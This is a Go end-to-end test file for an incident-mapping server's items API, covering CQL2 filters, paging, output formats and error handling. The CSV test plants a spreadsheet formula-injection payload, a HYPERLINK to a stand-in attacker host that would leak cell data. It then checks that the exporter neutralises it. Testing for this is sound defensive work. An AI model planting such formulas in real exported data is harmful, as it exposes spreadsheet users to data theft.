package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/incidentmap/incidentmap"
	"github.com/incidentmap/incidentmap/ingest"
)

// These tests drive the items endpoint of the real server over SQLite with
// the seeds: CQL2 filters, property parameters, sortby with next and prev
// links, properties, and the jsonseq and CSV formats.

// e2eSeedIDs returns the sorted ids of the seeds that keep selects.
func e2eSeedIDs(t *testing.T, keep func(*incidentmap.Incident) bool) []string {
	t.Helper()
	seeds, err := ingest.Seeds()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, s := range seeds {
		if keep(s) {
			out = append(out, s.ID)
		}
	}
	slices.Sort(out)
	return out
}

// e2eIDs returns the sorted ids of a collection.
func e2eIDs(c collection) []string {
	var out []string
	for _, f := range c.Features {
		out = append(out, f.ID)
	}
	slices.Sort(out)
	return out
}

func e2eLink(c collection, rel string) string {
	for _, l := range c.Links {
		if l.Rel == rel {
			return l.Href
		}
	}
	return ""
}

func e2eDay(s string) time.Time {
	d, err := time.Parse(time.DateOnly, s)
	if err != nil {
		panic(err)
	}
	return d
}

func TestItemsE2EFilters(t *testing.T) {
	m := boot(t, sqliteDSN(t))
	items := m.URL() + "/collections/incidents/items?limit=1000&"
	iraqRiots := func(i *incidentmap.Incident) bool { return i.Country == "IRQ" && i.EventType == "Riots" }
	herat := func(i *incidentmap.Incident) bool {
		return i.Location[0] >= 61.9 && i.Location[0] <= 62.4 && i.Location[1] >= 34.2 && i.Location[1] <= 34.5
	}
	kabul := func(i *incidentmap.Incident) bool { return i.Admin1Code == "AF-KAB" }
	in2020 := func(i *incidentmap.Incident) bool {
		return !i.OccurredStart.After(e2eDay("2020-12-31")) && !i.OccurredEnd.Before(e2eDay("2020-01-01"))
	}
	tests := []struct {
		name  string
		query url.Values
		want  func(*incidentmap.Incident) bool
		n     int // the number of seeds expected, as a check on the oracle
	}{
		{"text AND", url.Values{"filter": {"country='IRQ' AND event_type='Riots'"}}, iraqRiots, 2},
		{"json AND", url.Values{"filter-lang": {"cql2-json"}, "filter": {`{"op":"and","args":[` +
			`{"op":"=","args":[{"property":"country"},"IRQ"]},{"op":"=","args":[{"property":"event_type"},"Riots"]}]}`}}, iraqRiots, 2},
		{"property parameters", url.Values{"country": {"IRQ"}, "event_type": {"Riots"}}, iraqRiots, 2},
		{"S_INTERSECTS a Herat polygon", url.Values{"filter": {"S_INTERSECTS(location, POLYGON((61.9 34.2, 62.4 34.2, 62.4 34.5, 61.9 34.5, 61.9 34.2)))"}}, herat, 2},
		{"S_INTERSECTS json", url.Values{"filter-lang": {"cql2-json"}, "filter": {`{"op":"s_intersects","args":[{"property":"location"},` +
			`{"type":"Polygon","coordinates":[[[61.9,34.2],[62.4,34.2],[62.4,34.5],[61.9,34.5],[61.9,34.2]]]}]}`}}, herat, 2},
		{"S_DWITHIN 25 km of Kabul", url.Values{"filter": {"S_DWITHIN(location, POINT(69.17 34.53), 25, kilometers)"}}, kabul, 2},
		{"T_INTERSECTS 2020", url.Values{"filter": {"T_INTERSECTS(occurred, INTERVAL('2020-01-01','2020-12-31'))"}}, in2020, 5},
		{"LIKE with %, _ and a quote", url.Values{"filter": {`title LIKE '%Iran''s consular sta_f%'`}},
			func(i *incidentmap.Incident) bool { return strings.Contains(i.Title, "Iran's consular staff") }, 1},
		{"LIKE with an escaped %", url.Values{"filter": {`title LIKE '%100\%%'`}},
			func(i *incidentmap.Incident) bool { return strings.Contains(i.Title, "100%") }, 0},
		{"fatalities parameter", url.Values{"fatalities": {"10,20"}},
			func(i *incidentmap.Incident) bool {
				return i.Fatalities != nil && (*i.Fatalities == 10 || *i.Fatalities == 20)
			}, 2},
		{"admin1_code and filter ANDed", url.Values{"admin1_code": {"AF-KAB,AF-HER"}, "filter": {"target_country='IRN'"}},
			func(i *incidentmap.Incident) bool {
				return (i.Admin1Code == "AF-KAB" || i.Admin1Code == "AF-HER") && i.TargetCountry == "IRN"
			}, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			want := e2eSeedIDs(t, tt.want)
			if tt.n > 0 && len(want) != tt.n {
				t.Fatalf("the oracle selects %d seeds %v, want %d", len(want), want, tt.n)
			}
			c := getCollection(t, items+tt.query.Encode())
			if got := e2eIDs(c); !slices.Equal(got, want) || c.NumberMatched != len(want) {
				t.Errorf("got %v (numberMatched %d), want %v", got, c.NumberMatched, want)
			}
		})
	}
}

func TestItemsE2EBadInput(t *testing.T) {
	m := boot(t, sqliteDSN(t))
	items := m.URL() + "/collections/incidents/items?"
	tests := []struct {
		query    url.Values
		param    string
		position bool
	}{
		{url.Values{"filter": {"(country='IRQ' AND event_type='Riots'"}}, "filter", true},
		{url.Values{"filter": {"colour='red'"}}, "filter", true},
		{url.Values{"filter": {strings.Repeat("NOT ", 25000) + "TRUE"}}, "filter", false},
		{url.Values{"filter": {"country='IRQ'"}, "filter-lang": {"xml"}}, "filter-lang", false},
		{url.Values{"filter": {"country='IRQ'"}, "filter-crs": {"EPSG:3857"}}, "filter-crs", false},
		{url.Values{"properties": {"title,colour"}}, "properties", false},
		{url.Values{"sortby": {"colour"}}, "sortby", false},
		{url.Values{"target_type": {"castle"}}, "target_type", false},
		{url.Values{"status": {"draft"}}, "status", false},
	}
	for _, tt := range tests {
		resp, body := get(t, items+tt.query.Encode())
		var e struct{ Code, Description, Parameter string }
		if resp.StatusCode != 400 || json.Unmarshal(body, &e) != nil || e.Parameter != tt.param {
			t.Errorf("?%.80s: %s %.300s; want 400 naming %s", tt.query.Encode(), resp.Status, body, tt.param)
			continue
		}
		if tt.position && !strings.Contains(e.Description, "at position") {
			t.Errorf("?%s: description %q has no position", tt.query.Encode(), e.Description)
		}
	}
}

// TestItemsE2EPrevNext pages through the seeds newest first by next links,
// then back by prev links: each seed once each way, the same pages.
func TestItemsE2EPrevNext(t *testing.T) {
	m := boot(t, sqliteDSN(t))
	seeds, err := ingest.Seeds()
	if err != nil {
		t.Fatal(err)
	}
	target := m.URL() + "/collections/incidents/items?limit=4&sortby=-occurred_start"
	var forward [][]string
	var last string
	seen := map[string]bool{}
	var prevDay time.Time
	for page := 0; target != ""; page++ {
		if page > 10 {
			t.Fatal("the next links do not end")
		}
		c := getCollection(t, target)
		var ids []string
		for _, f := range c.Features {
			if seen[f.ID] {
				t.Fatalf("%s served twice", f.ID)
			}
			seen[f.ID] = true
			ids = append(ids, f.ID)
			d := e2eDay(f.Properties["occurred_start"].(string))
			if !prevDay.IsZero() && d.After(prevDay) {
				t.Errorf("%s on %s after %s: not newest first", f.ID, d.Format(time.DateOnly), prevDay.Format(time.DateOnly))
			}
			prevDay = d
		}
		forward = append(forward, ids)
		if (page == 0) != (e2eLink(c, "prev") == "") {
			t.Errorf("page %d: prev link %q", page, e2eLink(c, "prev"))
		}
		last, target = target, e2eLink(c, "next")
	}
	if len(seen) != len(seeds) {
		t.Fatalf("next links visited %d seeds, want %d", len(seen), len(seeds))
	}
	var backward [][]string
	target = last
	for page := 0; target != ""; page++ {
		if page > 10 {
			t.Fatal("the prev links do not end")
		}
		c := getCollection(t, target)
		var ids []string
		for _, f := range c.Features {
			ids = append(ids, f.ID)
		}
		backward = append(backward, ids)
		target = e2eLink(c, "prev")
	}
	slices.Reverse(backward)
	if len(backward) != len(forward) {
		t.Fatalf("prev links gave %d pages, next links %d", len(backward), len(forward))
	}
	for i := range forward {
		if !slices.Equal(backward[i], forward[i]) {
			t.Errorf("page %d: prev links gave %v, next links %v", i, backward[i], forward[i])
		}
	}
}

func TestItemsE2EProperties(t *testing.T) {
	m := boot(t, sqliteDSN(t))
	c := getCollection(t, m.URL()+"/collections/incidents/items?properties=title,country")
	if len(c.Features) == 0 {
		t.Fatal("no features")
	}
	for _, f := range c.Features {
		if len(f.Properties) != 2 || f.Properties["title"] == nil || f.Properties["country"] == nil {
			t.Errorf("%s: properties %v", f.ID, f.Properties)
		}
	}
}

func TestItemsE2ESeq(t *testing.T) {
	m := boot(t, sqliteDSN(t))
	seeds, err := ingest.Seeds()
	if err != nil {
		t.Fatal(err)
	}
	for name, header := range map[string]string{"f": "", "Accept": "application/geo+json-seq"} {
		t.Run(name, func(t *testing.T) {
			target := m.URL() + "/collections/incidents/items?limit=5"
			if header == "" {
				target += "&f=jsonseq"
			}
			ids := map[string]bool{}
			for page := 0; target != ""; page++ {
				if page > 10 {
					t.Fatal("the next links do not end")
				}
				req, _ := http.NewRequest(http.MethodGet, target, nil)
				if header != "" {
					req.Header.Set("Accept", header)
				}
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				body, err := io.ReadAll(resp.Body)
				resp.Body.Close()
				if err != nil || resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/geo+json-seq" {
					t.Fatalf("%s %s %v", resp.Status, resp.Header.Get("Content-Type"), err)
				}
				// numberMatched is left out of pages that do not hold every
				// match unless --matched-cap asks for a count.
				if h := resp.Header.Get("OGC-NumberMatched"); h != "" && h != strconv.Itoa(len(seeds)) {
					t.Errorf("OGC-NumberMatched %q", resp.Header.Get("OGC-NumberMatched"))
				}
				texts := bytes.Split(body, []byte{0x1E})
				if len(texts[0]) != 0 {
					t.Fatalf("body does not start with RS: %q", body[:20])
				}
				for _, text := range texts[1:] {
					var f struct{ Type, ID string }
					if !bytes.HasSuffix(text, []byte("\n")) || json.Unmarshal(text, &f) != nil || f.Type != "Feature" {
						t.Fatalf("text %q", text)
					}
					if ids[f.ID] {
						t.Fatalf("%s served twice", f.ID)
					}
					ids[f.ID] = true
				}
				target = ""
				for _, l := range resp.Header.Values("Link") {
					if strings.Contains(l, `rel="next"`) {
						target = strings.TrimPrefix(l[:strings.Index(l, ">")], "<")
					}
				}
			}
			if len(ids) != len(seeds) {
				t.Errorf("the sequence pages gave %d features, want %d", len(ids), len(seeds))
			}
		})
	}
}

// TestItemsE2ECSV imports the seeds and an incident with formulas in its
// text, and reads them back as CSV.
func TestItemsE2ECSV(t *testing.T) {
	dir := t.TempDir()
	dsn := "sqlite:" + filepath.Join(dir, "csv.db")
	evil := filepath.Join(dir, "evil.geojson")
	if err := os.WriteFile(evil, []byte(`{"type":"FeatureCollection","features":[{"type":"Feature","id":"evil-formula",
		"geometry":{"type":"Point","coordinates":[-70.65,-33.45]},
		"properties":{"title":"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")","summary":"-1+2, and \"quotes\"",
		"occurred_start":"2021-03-01","location_precision":"city","country":"CHL","event_type":"Protests",
		"target_type":"embassy","place_name":"@Santiago","actors":["+Crowd"],
		"sources":[{"publisher":"=Pub","title":"Line\nbreak","url":"https://example.org/a","published_on":"2021-03-02"}]}}]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := run(context.Background(), []string{"import", "--db", dsn, filepath.Join("..", "..", "ingest", "seeds.geojson"), evil},
		func(string) string { return "" }, &out, &out); err != nil {
		t.Fatalf("import: %v %s", err, out.String())
	}
	m := boot(t, dsn)
	resp, body := get(t, m.URL()+"/collections/incidents/items?f=csv&limit=1000")
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(resp.Header.Get("Content-Disposition"), `filename="incidents.csv"`) {
		t.Fatalf("%s %v", resp.Status, resp.Header)
	}
	matched, _ := strconv.Atoi(resp.Header.Get("OGC-NumberMatched"))
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seeds, _ := ingest.Seeds()
	if matched != len(seeds)+1 || len(rows) != matched+1 {
		t.Fatalf("%d rows for numberMatched %d (%d seeds + 1)", len(rows), matched, len(seeds))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	for _, name := range []string{"id", "lon", "lat", "wkt", "title", "sources", "fatalities"} {
		if _, ok := col[name]; !ok {
			t.Fatalf("no column %s in %v", name, rows[0])
		}
	}
	var row []string
	for _, r := range rows[1:] {
		if r[col["id"]] == "evil-formula" {
			row = r
		}
	}
	if row == nil {
		t.Fatal("no evil-formula row")
	}
	for name, want := range map[string]string{
		"title":      `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"summary":    `'-1+2, and "quotes"`,
		"place_name": "'@Santiago",
		"actors":     "'+Crowd",
		"sources":    "'=Pub | Line\nbreak | https://example.org/a | 2021-03-02",
		"lon":        "-70.65",
		"lat":        "-33.45",
		"wkt":        "POINT(-70.65 -33.45)",
	} {
		if got := row[col[name]]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
}
